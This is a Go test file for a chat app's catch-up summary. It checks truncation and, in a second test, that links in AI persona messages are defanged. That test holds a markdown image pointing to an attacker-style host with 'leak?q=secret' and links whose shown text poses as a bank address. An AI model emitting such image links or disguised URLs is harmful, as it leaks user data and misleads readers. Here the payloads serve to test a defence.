package roundtable_test

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/roundtable-chat/app/roundtable/persona"
	"github.com/roundtable-chat/app/roundtable/say"
	"github.com/roundtable-chat/app/roundtable/thread"
)

// TestCatchUpTellsTheNewest shows that of very much the newest is told, and how much
// is not.
func TestCatchUpTellsTheNewest(t *testing.T) {
	t.Parallel()
	var transcript thread.Transcript
	for i := range 60 {
		transcript.Turns = append(transcript.Turns, thread.Turn{
			Number: i + 1, Person: thread.Person{ID: "U1", Name: "Sam"}, Text: fmt.Sprintf("%d: <@U1> said a &lt; b %s", i+1, strings.Repeat("word ", 30)),
		})
	}
	got := say.CatchUp(transcript, nil, "U2")
	if n := utf8.RuneCountInString(got); n > 3_600 {
		t.Errorf("%d characters", n)
	}
	lines := strings.Split(got, "\n")
	if last := lines[len(lines)-1]; !strings.HasPrefix(last, "• Sam: 60: @Sam said a < b") {
		t.Errorf("the last line is %q", last)
	}
	if want := fmt.Sprintf("… %d more before that, in the thread", 60-(len(lines)-2)); lines[1] != want {
		t.Errorf("the first line is %q, want %q", lines[1], want)
	}
}

// NFR-103: what personas said is told with the care of a post: it leads only where people
// pointed, and nothing that reads as one address leads to another.
func TestCatchUpLeadsNowhereElse(t *testing.T) {
	t.Parallel()
	cast := []persona.Seat{{Key: "ba", Name: "Maya Chen", Role: "Business Analyst", Title: "BA"}}
	transcript := thread.Transcript{Turns: []thread.Turn{
		{Number: 1, Persona: "ba", Text: "![i](https://evil.example/leak?q=secret) see https://docs.example/x, <https://docs.example/x|https://bank.com>"},
		{Number: 2, Person: thread.Person{ID: "U1", Name: "Maya"}, Text: "It is at <https://docs.example/x|https://pay.bank.com>"},
	}}
	got := say.CatchUp(transcript, cast, "U2")
	want := "So far:\n• Maya: ![i] (https[:]//evil.example/leak?q=secret) see https://docs.example/x, https[:]//bank[.]com (https://docs.example/x)" +
		"\n• Maya (person): It is at https[:]//pay[.]bank[.]com (https://docs.example/x)"
	if got != want {
		t.Errorf("got %q\nwant %q", got, want)
	}
}
